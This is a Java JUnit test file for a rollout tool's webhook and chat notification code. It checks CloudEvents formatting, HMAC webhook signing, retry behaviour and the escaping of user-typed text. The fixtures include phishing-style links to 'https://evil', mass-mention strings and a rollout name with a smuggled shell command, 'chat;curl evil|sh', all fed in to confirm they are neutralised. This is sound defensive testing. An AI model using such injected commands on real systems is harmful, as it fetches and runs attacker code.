package io.fleetcanary.activity.notification;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.cloudevents.CloudEvent;
import io.cloudevents.jackson.JsonFormat;
import io.fleetcanary.activity.notification.Receiver.Got;
import io.fleetcanary.activity.notification.Target.Login;
import io.fleetcanary.activity.notification.Target.Mail;
import io.fleetcanary.activity.notification.Target.Way;
import io.fleetcanary.workflow.notification.Notification;
import io.fleetcanary.workflow.notification.NotificationActivities.Delivery;
import io.temporal.failure.ApplicationFailure;
import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.ZoneOffset;
import java.util.Base64;
import java.util.List;
import java.util.Objects;
import java.util.SortedMap;
import java.util.TreeMap;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class WebhooksTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String REASON = "errors 21 % > 2 %, n = 3104, cluster eu-2";

  private Receiver receiver;

  @BeforeEach
  void start() throws IOException {
    receiver = Receiver.start();
  }

  @AfterEach
  void stop() {
    receiver.close();
  }

  @Test
  void sendsAStructuredCloudEvent() throws IOException {
    tell(target(Way.CLOUDEVENTS, Login.NONE), Samples.QUESTION);

    Got got = receiver.got().getFirst();
    CloudEvent event = new JsonFormat().deserialize(got.body().getBytes(StandardCharsets.UTF_8));
    assertThat(got.headers()).containsEntry("Content-Type", "application/cloudevents+json");
    assertThat(event.getId()).isEqualTo("0b5d3c1e-run/3");
    assertThat(event.getType()).isEqualTo("io.fleetcanary.rollout.approval.requested.v1");
    assertThat(event.getSource()).isEqualTo(URI.create("rollout/inference/chat"));
    assertThat(event.getSubject()).isEqualTo("chat-20261103120000-9f3a");
    assertThat(event.getTime()).isEqualTo(Samples.NOON.atOffset(ZoneOffset.UTC));
    assertThat(event.getExtension("sequence")).isEqualTo("00000003");
    assertThat(JSON.readTree(Objects.requireNonNull(event.getData()).toBytes()))
        .isEqualTo(JSON.readTree(golden()));
  }

  @Test
  void signsAsStandardWebhooksHaveIt() throws Exception {
    String key =
        Base64.getEncoder().encodeToString("0123456789abcdef".getBytes(StandardCharsets.UTF_8));

    tell(target(Way.CLOUDEVENTS, new Login("t0ken", "whsec_" + key, "", "")), Samples.QUESTION);

    Got got = receiver.got().getFirst();
    Mac mac = Mac.getInstance("HmacSHA256");
    mac.init(new SecretKeySpec("0123456789abcdef".getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
    String signed =
        got.headers().get("webhook-id")
            + "."
            + got.headers().get("webhook-timestamp")
            + "."
            + got.body();
    assertThat(got.headers())
        .containsEntry("Authorization", "Bearer t0ken")
        .containsEntry("webhook-id", "0b5d3c1e-run/3")
        .containsEntry(
            "webhook-signature",
            "v1,"
                + Base64.getEncoder()
                    .encodeToString(mac.doFinal(signed.getBytes(StandardCharsets.UTF_8))));
  }

  @Test
  void writesIntoSlackWithoutCallingAnybody() throws IOException {
    tell(target(Way.SLACK, Login.NONE), Samples.ended("rejected by eve: <!channel> & <@U1>"));

    assertThat(text(receiver.got().getFirst()))
        .isEqualTo(
            """
            *inference/chat 2026.11.3: rolledback*
            rejected by eve: &lt;\u2060!channel&gt; &amp; &lt;\u2060@\u2060U1&gt;
            `fleetcanary status inference/chat`
            https://ui.example/namespaces/prod/workflows/rollout%2Finference%2Fchat/0b5d3c1e-run""");
  }

  @Test
  void writesIntoOtherChatsWithoutCallingAnybody() throws IOException {
    tell(target(Way.CHAT, Login.NONE), Samples.ended("rejected by eve: @channel\nlook"));

    assertThat(text(receiver.got().getFirst()))
        .startsWith(
            "**inference/chat 2026.11.3: rolledback**\nrejected by eve: @\u2060channel; look");
  }

  @ParameterizedTest
  @CsvSource({
    "[approve](https://evil), [approve]\u2060(https:\u2060//evil)",
    "\\[x](http://evil), \\[x]\u2060(http:\u2060//evil)",
    "<https://evil|Approve>, <\u2060https:\u2060//evil|Approve>",
    "<users/all>, <\u2060users/all>",
    "errors 1 % < 2 %, errors 1 % < 2 %"
  })
  void makesNoLinkOfWhatSomebodyTyped(String typed, String shown) throws IOException {
    tell(target(Way.CHAT, Login.NONE), Samples.ended(typed));
    tell(target(Way.TEAMS, Login.NONE), Samples.ended(typed));

    assertThat(text(receiver.got().getFirst())).contains("\n" + shown + "\n");
    assertThat(
            JSON.readTree(receiver.got().getLast().body())
                .at("/attachments/0/content/body/1/text")
                .asText())
        .isEqualTo(shown);
  }

  @Test
  void offersNoCommandOfAStrangeNameAndTellsAllTheSame() throws IOException {
    tell(target(Way.CLOUDEVENTS, Login.NONE), Samples.strange("chat;curl evil|sh"));

    JsonNode event = JSON.readTree(receiver.got().getFirst().body());
    assertThat(event.at("/data/commands")).isEmpty();
    assertThat(event.path("source").asText()).isEqualTo("rollout/inference/chat;curl%20evil%7Csh");
  }

  @Test
  void takesASecretFromAFileWithItsLineEndAndShowsNoneThatItCannotUse() {
    tell(target(Way.CLOUDEVENTS, new Login("t0ken\n", "s3cret\n", "", "")), Samples.QUESTION);

    assertThat(receiver.got().getFirst().headers()).containsEntry("Authorization", "Bearer t0ken");
    assertThatThrownBy(() -> new Login("t0\nken", "", "", ""))
        .hasMessage("token must be of printed ASCII characters");
    assertThatThrownBy(() -> new Login("", "whsec_???", "", ""))
        .hasMessage("secret must be Base64 behind whsec_");
  }

  @Test
  void sendsTeamsACard() throws IOException {
    tell(target(Way.TEAMS, Login.NONE), Samples.ended("[click](http://evil)"));

    JsonNode card = JSON.readTree(receiver.got().getFirst().body()).at("/attachments/0/content");
    assertThat(card.path("type").asText()).isEqualTo("AdaptiveCard");
    assertThat(card.at("/body/1/text").asText()).isEqualTo("[click]\u2060(http:\u2060//evil)");
    assertThat(card.at("/actions/0/url").asText()).startsWith("https://ui.example/");
  }

  @Test
  void saysTheSameSentenceEverywhere() throws IOException {
    for (Way way : List.of(Way.CLOUDEVENTS, Way.SLACK, Way.CHAT, Way.TEAMS)) {
      tell(target(way, Login.NONE), Samples.ended(REASON.replace(">", "above")));
    }

    assertThat(receiver.got())
        .hasSize(4)
        .allSatisfy(got -> assertThat(got.body()).contains(REASON.replace(">", "above")));
  }

  @Test
  void tellsOnlyWhatIsAskedFor() {
    Target target =
        new Target(Way.CLOUDEVENTS, receiver.url(), Login.NONE, Mail.NONE, List.of("end"));

    tell(target, Samples.QUESTION);
    tell(target, Samples.ended(REASON));

    assertThat(receiver.got()).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(ints = {301, 401, 404, 429, 500, 503})
  void isTriedAgainWhereItMayBeTakenLater(int status) {
    receiver.answers(status);

    ApplicationFailure failure = fails();

    assertThat(failure.isNonRetryable()).isFalse();
    assertThat(failure.getOriginalMessage()).isEqualTo("it answered HTTP " + status);
  }

  @ParameterizedTest
  @ValueSource(ints = {400, 410, 413, 422})
  void isNotTriedAgainWhereItIsUnderstoodAndNotTaken(int status) {
    receiver.answers(status);

    assertThat(fails().isNonRetryable()).isTrue();
  }

  @Test
  void waitsAsLongAsItIsAskedToButNoLongerThanAnHour() {
    receiver.answers(429);
    receiver.asksToWait("90");
    assertThat(fails().getNextRetryDelay()).isEqualTo(Duration.ofSeconds(90));

    receiver.asksToWait("99999");
    assertThat(fails().getNextRetryDelay()).isEqualTo(Duration.ofHours(1));
  }

  @Test
  void namesNoAddressWhenNobodyIsThere() {
    receiver.close();

    assertThat(fails().getOriginalMessage())
        .isEqualTo("it cannot be reached: ConnectException")
        .doesNotContain("s3cret");
  }

  @Test
  void leavesToAnotherWorkerWhatItDoesNotKnow() {
    Notifications none = Notifications.none();

    ApplicationFailure failure =
        catchThrowableOfType(
            ApplicationFailure.class, () -> none.deliver(new Delivery("oncall", Samples.QUESTION)));

    assertThat(failure.isNonRetryable()).isFalse();
    assertThat(none.targets().names()).isEmpty();
  }

  private static byte[] golden() throws IOException {
    try (InputStream file =
        WebhooksTest.class.getResourceAsStream("/notification/event-data.json")) {
      return file.readAllBytes();
    }
  }

  private ApplicationFailure fails() {
    return catchThrowableOfType(
        ApplicationFailure.class,
        () -> tell(target(Way.CLOUDEVENTS, Login.NONE), Samples.QUESTION));
  }

  private Target target(Way way, Login login) {
    return new Target(way, receiver.url(), login, Mail.NONE, List.of());
  }

  private static void tell(Target target, Notification notification) {
    SortedMap<String, Target> targets = new TreeMap<>();
    targets.put("oncall", target);
    new Notifications(targets, Samples.UI).deliver(new Delivery("oncall", notification));
  }

  private static String text(Got got) throws IOException {
    return JSON.readTree(got.body()).path("text").asText();
  }
}
